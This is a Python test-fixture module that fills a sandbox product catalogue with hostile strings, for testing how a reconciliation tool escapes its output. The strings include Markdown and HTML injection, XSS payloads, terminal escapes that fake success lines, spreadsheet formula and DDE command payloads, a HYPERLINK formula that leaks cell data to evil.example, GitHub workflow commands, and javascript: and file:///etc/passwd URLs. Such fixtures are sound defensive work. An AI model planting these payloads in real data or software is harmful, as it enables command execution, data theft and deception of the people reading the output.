"""A hostile catalogue: products whose text is what a malicious supplier could put into CJ.

CJ takes product names, variant keys, SKUs and images from thousands of suppliers, and
its error ``message`` may quote them. ``cjrec sandbox --hostile`` (``SandboxConfig.hostile``)
makes the whole catalogue hostile from the start; the admin call ``POST /__sandbox/hostile``
(``{"pids": [...]}``, every product when absent) makes some products hostile in a running
sandbox. Either way, every failure answer's ``message`` then carries hostile text too.

The strings cover what cjrec must survive in each output: Markdown that would close a code
fence and a ``<details>`` and then write a heading, a link, an image, HTML and an
@mention; terminal escape sequences, ``\\r`` and a right-to-left override; spreadsheet
formulas; NUL, lone surrogates, Unicode line separators and invisible characters;
GitHub workflow commands; very long strings; and image URLs with ``javascript:``,
``data:`` and ``file:`` schemes.
"""

from __future__ import annotations

from reconciler.sandbox.catalog import Catalog, Product

HOSTILE_NAMES = (
    "![x](https://evil.example/p.png) Mug\n```\n</details>\n\n## Approved by admin @octocat "
    "[click](https://evil.example) <img src=https://evil.example/i.png>",
    "Cup \x1b[2J\x1b]0;owned\x07FAKE: Apply complete, 0 changes\r\nok \u202egnp.exe",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0 Tote",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTabbed =1+1 Cap",
    "NUL\x00 and a lone \ud800 surrogate \udfff Mug",
    "\n::error title=owned::CJ says hi\n::add-mask::ok\n<script>alert(1)</script>",
    "```` fences ````` | pipes | &amp; www.evil.example #1 ~~strike~~ $x^2$ [^1]",
    "\u2066isolate\u2069 \u200bzero\u200dwidth \ufeffbom \u2028line\u2029para \x85nel \x9b31m C1",
    "Long " + "\u202e" + "L" * 6000,
    "マグカップ\u2028evil: 1\u0085\r\n# 杯\u202e",  # no ASCII spelling: import writes it as a comment
)
HOSTILE_KEYS = ("<img src=x onerror=alert(1)>", "=1+1", "Black\u202e-M\r", "@octocat", "`\n# H", "\x1b[31mRed")
HOSTILE_IMAGES = (
    "javascript:alert(document.cookie)",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    "file:///etc/passwd",
    "https://evil.example/x.png\r\nX-Injected: 1",
)
HOSTILE_MESSAGE = (
    "Product rejected\r\n\x1b[32mApply complete: 0 failed\x1b[0m \u202e## @octocat "
    "[details](https://evil.example) <img src=https://evil.example/m.png>"
)


def make_hostile(catalog: Catalog, pids: list[str] | None = None) -> int:
    """Give the products (every one when ``pids`` is None) hostile names, SKUs, keys and images.

    Deterministic: the ``i``-th product given (or of the catalogue) gets name ``i`` of
    :data:`HOSTILE_NAMES` (cycling), so a test knows which product carries which trick.
    SKUs stay unique.
    KeyError for an unknown pid. Returns how many products changed.
    """
    chosen = catalog.pids() if pids is None else list(pids)
    products = [catalog.get(pid) for pid in chosen]
    for pid, product in zip(chosen, products, strict=True):
        if product is None:
            raise KeyError(pid)
    for index, product in enumerate(products):
        assert product is not None
        _make_hostile(product, index)
    catalog.reindex()
    return len(chosen)


def _make_hostile(product: Product, index: int) -> None:
    product.name_en = HOSTILE_NAMES[index % len(HOSTILE_NAMES)]
    if not product.sku.startswith("="):
        product.sku = "=" + product.sku  # a formula prefix on a unique SKU
    product.image_url = HOSTILE_IMAGES[index % len(HOSTILE_IMAGES)]
    for i, variant in enumerate(product.variants):
        variant.key = f"{HOSTILE_KEYS[(index + i) % len(HOSTILE_KEYS)]}-{i}"
        if not variant.sku.startswith("+"):
            variant.sku = "+" + variant.sku
        variant.image = HOSTILE_IMAGES[(index + i + 1) % len(HOSTILE_IMAGES)] if i % 2 == 0 else variant.image
